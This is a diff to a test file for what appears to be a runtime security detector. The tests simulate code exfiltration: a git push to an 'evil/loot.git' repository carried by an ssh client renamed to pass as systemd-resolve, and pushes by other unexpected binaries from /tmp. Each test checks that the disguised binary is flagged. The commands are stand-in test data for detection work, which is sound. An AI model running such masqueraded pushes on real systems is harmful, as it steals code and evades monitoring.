@@ -94,6 +94,37 @@ describe('push tools, each recognised as the sensors see it', () => {
     expect(a.summary).toContain('renamed binary /tmp/.cache/kworker');
   });
 
+  for (const source of ['tetragon', 'falco'] as const) {
+    it(`${source}: git push through a renamed ssh client names the ssh client, not git, as the renamed binary`, () => {
+      const s = new Scenario({ source });
+      const c = s.container();
+      const sh = s.init(c);
+      const git = s.exec(c, '/usr/bin/git', 'push git@github.com:evil/loot.git HEAD:main', { parent: sh });
+      const ssh = s.exec(c, '/tmp/.x/systemd-resolve', `git@github.com "git-receive-pack 'evil/loot.git'"`, {
+        parent: git,
+      });
+      s.connect(ssh, GITHUB_IP, 22).send(ssh, GITHUB_IP, 22, 3 * MiB);
+      const a = only(run(s.events).alerts);
+      expect(brief([a])).toEqual([
+        { rule: 'renamed-binary-push', severity: 'medium', tool: 'git', destination: 'github.com' },
+      ]);
+      // The alert's process stays the first pushing process; the summary and response name the odd one.
+      expect(a.process.binary).toBe('/usr/bin/git');
+      expect(a.summary).toContain('by renamed binary /tmp/.x/systemd-resolve');
+      expect(a.summary).not.toContain('binary /usr/bin/git');
+      const inspect = a.response.find((r) => r.startsWith('Inspect '));
+      expect(inspect).toMatch(/^Inspect \/tmp\/\.x\/systemd-resolve: .*it is ssh under another name/);
+      expect(a.evidence.some((e) => e.kind === 'exec' && e.binary === '/tmp/.x/systemd-resolve')).toBe(true);
+    });
+  }
+
+  it('an unknown binary pushing by egress from /tmp is named as the unexpected binary', () => {
+    const s = pushScenario('/tmp/syncer', '--to ghcr', { ip: '140.82.121.33', bytes: 2 * MiB });
+    const a = only(run(s.events, { config: { destinations: { internal: ['140.82.121.0/24'] } } }).alerts);
+    expect(a.rule).toBe('renamed-binary-push');
+    expect(a.summary).toContain('by unexpected binary /tmp/syncer');
+  });
+
   it('renamed git: send-pack plumbing under another name', () => {
     const s = pushScenario('/opt/tools/sync', 'send-pack --stateless-rpc https://github.com/evil/loot.git --stdin', {
       ip: GITHUB_IP,
